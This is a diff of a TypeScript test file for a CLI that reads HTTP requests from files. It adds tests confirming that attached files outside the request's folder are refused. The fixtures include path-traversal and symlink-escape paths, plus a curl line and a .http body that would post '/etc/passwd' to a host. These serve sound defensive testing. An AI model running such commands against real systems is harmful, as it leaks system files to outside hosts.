@@ -1,7 +1,7 @@
-import {writeFileSync} from 'node:fs';
+import {mkdirSync, symlinkSync, writeFileSync} from 'node:fs';
 import {join} from 'node:path';
 import {describe, expect, it} from 'vitest';
-import {inspectFile, requestsIn} from '../../src/cli/request-file.ts';
+import {attachedIn, inspectFile, requestsIn} from '../../src/cli/request-file.ts';
 import {noPins} from '../../src/inspect/inspect.ts';
 import {generic} from '../../src/providers/generic.ts';
 import {telecmi} from '../../src/providers/telecmi.ts';
@@ -69,12 +69,45 @@ describe('a request from a file', () => {
 
 	it.each([
 		['< ./not-there.bin', /not-there\.bin, which it names: ENOENT/],
-		['< /dev/zero', /\/dev\/zero, which it names: it is no file/],
+		['< /dev/zero', /\/dev\/zero, which it names: it is not in /],
 	])('a body that cannot be read is told: %s', async (body, message) => {
 		const file = written(`POST / HTTP/1.1\n\n${body}\n`);
 		await expect(requestsIn(file)).rejects.toMatchObject({
 			message: expect.stringMatching(message),
 			exitCode: 2,
 		});
+	});
+});
+
+describe('a file that another one names', () => {
+	it('is read in the same folder, and nowhere else', () => {
+		const top = temporaryFolder();
+		const folder = join(top, 'in');
+		mkdirSync(join(folder, 'deep'), {recursive: true});
+		writeFileSync(join(folder, 'deep', 'a.bin'), 'abc');
+		writeFileSync(join(top, 'out.bin'), 'not for all');
+		symlinkSync(join(top, 'out.bin'), join(folder, 'link.bin'));
+		const told: [string, number][] = [];
+		const attached = attachedIn(folder, (path, size) => told.push([path, size]));
+		expect(attached('./deep/a.bin')).toEqual(Buffer.from('abc'));
+		expect(attached(join(folder, 'deep/a.bin'))).toEqual(Buffer.from('abc'));
+		expect(told).toEqual([
+			['./deep/a.bin', 3],
+			[join(folder, 'deep/a.bin'), 3],
+		]);
+		for (const path of ['../out.bin', join(top, 'out.bin'), 'link.bin', '/etc/passwd'])
+			expect(() => attached(path)).toThrow(/nothing outside is read/);
+		expect(() => attached('deep')).toThrow('it is no file');
+		expect(() => attached('none')).toThrow('none, which it names');
+	});
+
+	it('of a curl file and of a .http file is refused alike', async () => {
+		const folder = temporaryFolder();
+		writeFileSync(join(folder, 'a.curl'), 'curl h.example.test -d @/etc/passwd');
+		writeFileSync(join(folder, 'a.http'), 'POST / HTTP/1.1\n\n< /etc/passwd\n');
+		for (const name of ['a.curl', 'a.http'])
+			await expect(requestsIn(join(folder, name))).rejects.toMatchObject({
+				message: expect.stringContaining('/etc/passwd, which it names: it is not in'),
+			});
 	});
 });
